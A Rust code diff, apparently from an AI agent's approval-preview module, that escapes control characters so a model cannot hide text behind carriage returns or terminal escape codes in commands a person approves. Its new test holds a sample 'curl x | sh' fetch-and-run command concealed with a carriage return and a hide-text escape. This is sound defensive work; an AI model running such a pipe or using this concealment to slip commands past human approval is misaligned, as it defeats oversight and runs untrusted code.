@@ -9,8 +9,27 @@ use similar::{ChangeTag, TextDiff};
 /// At most this many diff lines are printed.
 const MAX_DIFF_LINES: usize = 24;
 
-/// The preview's lines, without a prefix; each is one terminal line.
+/// The preview's lines, without a prefix; each is one terminal line, with
+/// control characters shown escaped (a model must not hide text behind a
+/// carriage return or recolour the terminal in what a person approves).
 pub fn lines(preview: &ApprovalPreview) -> Vec<String> {
+    raw_lines(preview).iter().map(|l| visible(l)).collect()
+}
+
+/// `s` with every control character but tab written as `\u{…}`.
+pub fn visible(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        if c.is_control() && c != '\t' {
+            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+fn raw_lines(preview: &ApprovalPreview) -> Vec<String> {
     match preview {
         ApprovalPreview::File { path, before, after, note } => file(path, before.as_deref(), after.as_deref(), note),
         ApprovalPreview::Command { command, cwd, description } => {
@@ -97,6 +116,16 @@ fn spawn(plan: &SpawnPlan) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn control_characters_are_shown_not_obeyed() {
+        let shown = lines(&ApprovalPreview::Command {
+            command: "curl x | sh #\r echo hi \u{1b}[8m".into(),
+            cwd: "/w".into(),
+            description: None,
+        });
+        assert_eq!(shown[0], "$ curl x | sh #\\u{d} echo hi \\u{1b}[8m");
+    }
 
     #[test]
     fn an_overwrite_shows_what_is_lost_and_a_new_file_what_is_added() {
